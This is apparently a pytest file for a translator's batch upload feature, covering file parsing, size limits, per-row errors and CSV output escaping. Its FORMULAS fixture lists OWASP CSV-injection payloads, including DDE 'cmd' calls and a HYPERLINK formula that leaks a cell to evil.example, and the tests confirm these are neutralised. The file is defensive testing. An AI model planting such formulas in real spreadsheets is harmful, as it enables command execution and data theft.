"""Batch files: reading .txt/.csv uploads, per-row errors, and output CSVs that spreadsheets cannot run."""

from __future__ import annotations

import csv

import pytest

from model import DecodeOptions, load_source
from model.batch_files import (
    MAX_BATCH_BYTES, MAX_BATCH_ROWS, BatchFileError, BatchRow, neutralise, read_batch_file, translate_rows,
    write_results_csv,
)
from model.validation import MAX_INPUT_CHARS

# Payloads from OWASP's CSV Injection page and the issue: each would run as a formula if written as is.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(A1)", "-2+3+cmd|' /C calc'!A0",
            "@cmd", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def translator(random_checkpoint):
    return load_source(str(random_checkpoint))


def _read_csv(path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_read_txt_and_csv(tmp_path):
    txt = tmp_path / "s.txt"
    txt.write_text("Go.\n\nHi.\r\nRun!\n", encoding="utf-8")
    assert [(r.row, r.english) for r in read_batch_file(txt)] == [(1, "Go."), (3, "Hi."), (4, "Run!")]
    data = tmp_path / "s.csv"
    data.write_text('id,English\n1,"Go."\n2,"Hi, you."\n3,\n', encoding="utf-8")
    assert [(r.row, r.english) for r in read_batch_file(data)] == [(1, "Go."), (2, "Hi, you.")]


@pytest.mark.parametrize("name, content, words", [
    ("s.pdf", b"Go.", "s.pdf: upload a .txt"),
    ("s.csv", b"french\nVa !\n", "s.csv: no column named 'english' \\(found: french\\)"),
    ("s.txt", b"\xff\xfeGo.", "s.txt: not UTF-8"),
    ("s.txt", b"\n\n", "s.txt: no sentences"),
    ("s.txt", b"Go.\n" * (MAX_BATCH_ROWS + 1), f"the limit is {MAX_BATCH_ROWS}"),
    ("s.txt", b"a" * (MAX_BATCH_BYTES + 1), "bytes; the limit is"),
])
def test_unusable_files_are_rejected_whole_naming_the_file(tmp_path, name, content, words):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(BatchFileError, match=words):
        read_batch_file(path)


def test_an_over_long_line_is_a_row_error_in_csv_as_in_txt(translator, tmp_path):
    """A field over the csv module's 131,072-character default used to reject the whole .csv."""
    long_line = "a" * 200_000
    as_txt = tmp_path / "long.txt"
    as_txt.write_text(f"Go.\n{long_line}\nHi.\n", encoding="utf-8")
    as_csv = tmp_path / "long.csv"
    as_csv.write_text(f'english\nGo.\n"{long_line}"\nHi.\n', encoding="utf-8")
    for path in (as_txt, as_csv):
        rows = translate_rows(translator, read_batch_file(path), DecodeOptions())
        assert [r.english for r in rows] == ["Go.", long_line, "Hi."]
        assert f"200,000 characters long; the limit is {MAX_INPUT_CHARS}" in rows[1].error and not rows[1].french
        assert rows[0].french == translator.translate("Go.").translation


def test_rows_translate_as_the_translator_does_with_errors_in_their_rows(translator, tmp_path):
    rows = [BatchRow(1, "Go."), BatchRow(2, "Go ü€"), BatchRow(3, "Hi.")]
    progress = []
    translate_rows(translator, rows, DecodeOptions(method="beam", beam_size=3), progress=lambda *a: progress.append(a), chunk=2)
    assert progress == [(2, 3), (3, 3)]
    want = translator.translate("Hi.", DecodeOptions(method="beam", beam_size=3))
    assert rows[2].french == want.translation and rows[2].score == pytest.approx(want.score, abs=1e-4)
    assert "'ü'" in rows[1].error and rows[1].french == "" and rows[1].score is None
    path = write_results_csv(rows, tmp_path / "out.csv")
    written = _read_csv(path)
    assert list(written[0]) == ["row", "english", "french", "score", "error"]
    assert [r["row"] for r in written] == ["1", "2", "3"] and written[1]["score"] == ""
    assert float(written[2]["score"]) == rows[2].score  # a negative score stays a number


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_are_neutralised(payload, tmp_path):
    assert neutralise(payload) == "'" + payload
    rows = [BatchRow(1, payload, french=payload, score=-3.5, error=payload)]
    written = _read_csv(write_results_csv(rows, tmp_path / "out.csv"))[0]
    assert written["english"] == written["french"] == written["error"] == "'" + payload
    assert written["score"] == "-3.5"


@pytest.mark.parametrize("safe", ["Go.", "I'm OK.", " =not first", "a=b", "'quoted", ""])
def test_ordinary_cells_are_written_as_is(safe):
    assert neutralise(safe) == safe
